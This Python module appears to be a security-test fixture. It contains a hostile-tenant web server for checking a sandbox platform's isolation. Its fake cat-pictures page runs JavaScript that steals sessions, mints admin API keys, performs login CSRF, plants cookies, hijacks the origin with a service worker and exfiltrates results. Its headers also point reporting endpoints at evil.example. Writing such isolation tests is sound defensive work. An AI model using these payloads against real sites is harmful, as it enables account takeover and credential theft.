"""What a hostile tenant serves on its sandbox's port (network.port 8000): a header echo, a
page whose JavaScript tries to act with the visitor's hutch credentials, a service worker
that would take hutch's origin over, and answers carrying every header that acts on an
origin rather than on one document. Every request it sees is logged (path and Cookie) to
``seen.jsonl`` in its working directory, what the page learnt to ``exfil.jsonl``; the test
reads both back through the files API. ``site.json`` (written by the test) says where hutch
is and what the attacker's own session looks like."""

from __future__ import annotations

PORT = 8000

SITE = r'''
import base64, hashlib, json, socket, threading, urllib.parse
lock = threading.Lock()

def log(name, entry):
    with lock, open(name, "a") as f:
        f.write(json.dumps(entry) + "\n")

def config():
    try:
        with open("site.json") as f:
            return json.load(f)
    except OSError:
        return {}

ORIGIN_WIDE = [  # headers that act on the whole origin (or host) that serves them
    ("Set-Cookie", "hutch_session=planted-by-header; Path=/"),
    ("Set-Cookie", "hutch_csrf=planted-by-header; Path=/"),
    ("Set-Cookie", "__Host-hutch_session=planted-by-header; Path=/; Secure"),
    ("Service-Worker-Allowed", "/"),
    ("Clear-Site-Data", '"cookies", "storage", "cache"'),
    ("Set-Login", "logged-in"),
    ("NEL", '{"report_to": "evil", "max_age": 86400, "include_subdomains": true, "success_fraction": 1.0}'),
    ("Report-To", '{"group": "evil", "max_age": 86400, "endpoints": [{"url": "https://evil.example/r"}]}'),
    ("Reporting-Endpoints", 'evil="https://evil.example/r"'),
    ("Strict-Transport-Security", "max-age=31536000; includeSubDomains"),
    ("Alt-Svc", 'h2="evil.example:443"'),
    ("Origin-Agent-Cluster", "?0"),
    ("Accept-CH", "Sec-CH-UA-Full-Version-List"),
    ("Critical-CH", "Sec-CH-UA-Full-Version-List"),
    ("Sec-Session-Registration", '(ES256);path="/reg";challenge="c"'),
    ("Link", "</app>; rel=preload; as=fetch"),
    ("Refresh", "0; url=/app"),
    ("WWW-Authenticate", 'Basic realm="hutch"'),
    ("Content-Security-Policy", "sandbox allow-same-origin allow-scripts"),  # an attempt to weaken ours
    ("X-Content-Type-Options", "sniff-please"),
    ("X-App-Header", "kept"),  # an app's own header passes
]

PAGE = """<!doctype html><meta charset=utf-8><title>cute cat pictures</title>
<pre id=out></pre><iframe name=sink hidden></iframe>
<script>
const CFG = %(cfg)s;
const out = {};
async function attempt(name, fn) {
  try { out[name] = String(await fn()); } catch (e) { out[name] = 'refused: ' + e; }
}
function csrf() {
  try {
    const m = document.cookie.match(/(?:^|; )(?:__Host-)?hutch_csrf=([^;]*)/);
    return m ? m[1] : '';
  } catch (e) { return ''; }
}
(async () => {
  await attempt('origin', () => window.origin);
  await attempt('cookies', () => document.cookie);
  await attempt('ownFetch', async () => {  // the page's own data, as any app fetches it
    const r = await fetch('echo');
    return r.status + ' ' + (await r.text()).slice(0, 80);
  });
  await attempt('readSession', async () => {
    const r = await fetch(CFG.api + '/app/session', {credentials: 'include'});
    return r.status + ' ' + (await r.text()).slice(0, 300);
  });
  await attempt('readKeys', async () => {
    const r = await fetch(CFG.api + '/keys', {credentials: 'include'});
    return r.status + ' ' + (await r.text()).slice(0, 300);
  });
  await attempt('mintKey', async () => {
    const r = await fetch(CFG.api + '/keys', {method: 'POST', credentials: 'include',
      headers: {'Content-Type': 'application/json', 'X-CSRF-Token': csrf()},
      body: JSON.stringify({role: 'admin', name: 'stolen-' + CFG.label})});
    return r.status + ' ' + (await r.text()).slice(0, 300);
  });
  await attempt('mintKeyBlind', async () => {  // no CORS preflight, no token: the cookie alone
    await fetch(CFG.api + '/keys', {method: 'POST', mode: 'no-cors', credentials: 'include',
      headers: {'Content-Type': 'text/plain'}, body: JSON.stringify({role: 'admin', name: 'stolen-' + CFG.label})});
    return 'sent';
  });
  await attempt('plantByHeader', async () => {
    await fetch('plant', {mode: 'no-cors', credentials: 'include'});
    return document.cookie;
  });
  await attempt('plant', () => {
    const domain = CFG.parent ? '; domain=' + CFG.parent : '';
    for (const [name, value] of [['hutch_session', CFG.session], ['hutch_csrf', CFG.csrf]]) {
      document.cookie = name + '=' + value + '; path=/' + domain;
      document.cookie = '__Host-' + name + '=' + value + '; path=/; secure' + domain;
      document.cookie = '__Host-' + name + '=' + value + '; path=/; secure';
    }
    return document.cookie;
  });
  await attempt('worker', async () => {
    const reg = await navigator.serviceWorker.register('sw.js', {scope: '/'});
    return 'registered ' + reg.scope;
  });
  await attempt('storage', () => { localStorage.setItem('planted', '1'); return 'localStorage is ours'; });
  await attempt('loginCsrf', () => new Promise((done) => {  // a text/plain form: no preflight
    const form = document.createElement('form');
    form.method = 'POST'; form.enctype = 'text/plain'; form.target = 'sink';
    form.action = CFG.api + '/app/session';
    const input = document.createElement('input');
    input.name = '{"apiKey": "' + CFG.key + '", "pad": "';
    input.value = '"}';
    form.appendChild(input);
    document.body.appendChild(form);
    document.querySelector('iframe').onload = () => done('posted');
    setTimeout(() => done('posted (no load event)'), 5000);
    form.submit();
  }));
  document.getElementById('out').textContent = JSON.stringify(out);
  try { await fetch('exfil', {method: 'POST', mode: 'no-cors', body: JSON.stringify(out)}); } catch (e) {}
})();
</script>"""

WORKER = b"""self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('fetch', (e) => e.respondWith(new Response('<h1>owned by a sandbox</h1>',
  {headers: {'Content-Type': 'text/html'}})));"""

def answer(c, status, headers, body):
    head = [f"HTTP/1.1 {status}", f"Content-Length: {len(body)}", "Connection: close"]
    head += [f"{k}: {v}" for k, v in headers]
    c.sendall(("\r\n".join(head) + "\r\n\r\n").encode() + body)

def handle(c):
    f = c.makefile("rb")
    method, target, _ = f.readline().decode().split()
    headers = {}
    while (h := f.readline().decode().strip()):
        k, v = h.split(":", 1)
        headers[k.strip().lower()] = v.strip()
    path = urllib.parse.urlsplit(target).path
    log("seen.jsonl", {"method": method, "path": target, "cookie": headers.get("cookie"),
                       "upgrade": headers.get("upgrade")})
    if headers.get("upgrade", "").lower() == "websocket":
        acc = base64.b64encode(hashlib.sha1((headers["sec-websocket-key"] + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11").encode()).digest()).decode()
        c.sendall(f"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: {acc}\r\n\r\n".encode())
        data = json.dumps(headers).encode()
        c.sendall(b"\x81\x7e" + len(data).to_bytes(2, "big") + data + b"\x88\x00")
        c.close()
        return
    n = int(headers.get("content-length", "0"))
    body = f.read(n) if n else b""
    cfg = config()
    if path.endswith("/exfil"):
        log("exfil.jsonl", {"body": body.decode(errors="replace")})
        answer(c, "204 No Content", [], b"")
    elif path.endswith("/attack.html"):
        page = (PAGE % {"cfg": json.dumps(cfg)}).encode()
        answer(c, "200 OK", [("Content-Type", "text/html"), ("Service-Worker-Allowed", "/"),
                             ("Content-Security-Policy", "sandbox allow-same-origin allow-scripts")], page)
    elif path.endswith("/plant"):  # the attacker's session, set by an answer (session fixation)
        domain = f"; Domain={cfg['parent']}" if cfg.get("parent") else ""
        answer(c, "200 OK", [("Content-Type", "text/plain"),
                             ("Set-Cookie", f"hutch_session={cfg.get('session', 'x')}; Path=/{domain}"),
                             ("Set-Cookie", f"hutch_csrf={cfg.get('csrf', 'x')}; Path=/{domain}")], b"ok")
    elif path.endswith("/evil.js"):  # as a page's script, or as a worker
        answer(c, "200 OK", [("Content-Type", "text/javascript")],
               b"if (typeof window !== 'undefined') window.ownedBySandbox = true; else postMessage('worker ran');")
    elif path.endswith("/sw.js"):
        answer(c, "200 OK", [("Content-Type", "text/javascript"), ("Service-Worker-Allowed", "/")], WORKER)
    elif path.endswith("/domain-cookie"):
        answer(c, "200 OK", [("Content-Type", "text/plain"),
                             ("Set-Cookie", "theirs=1; Domain=sandboxes.test; Path=/; HttpOnly"),
                             ("Set-Cookie", "hutch_session=planted; domain=.sandboxes.test"),
                             ("Set-Cookie", "plain=2; Path=/")], b"ok")
    elif path.endswith("/evil-headers"):
        answer(c, "200 OK", [("Content-Type", "text/html")] + ORIGIN_WIDE, b"<p>hello</p>")
    else:
        answer(c, "200 OK", [("Content-Type", "application/json")], json.dumps(headers).encode())
    c.close()

s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("0.0.0.0", 8000))
s.listen()
while True:
    c, _ = s.accept()
    threading.Thread(target=handle, args=(c,), daemon=True).start()
'''
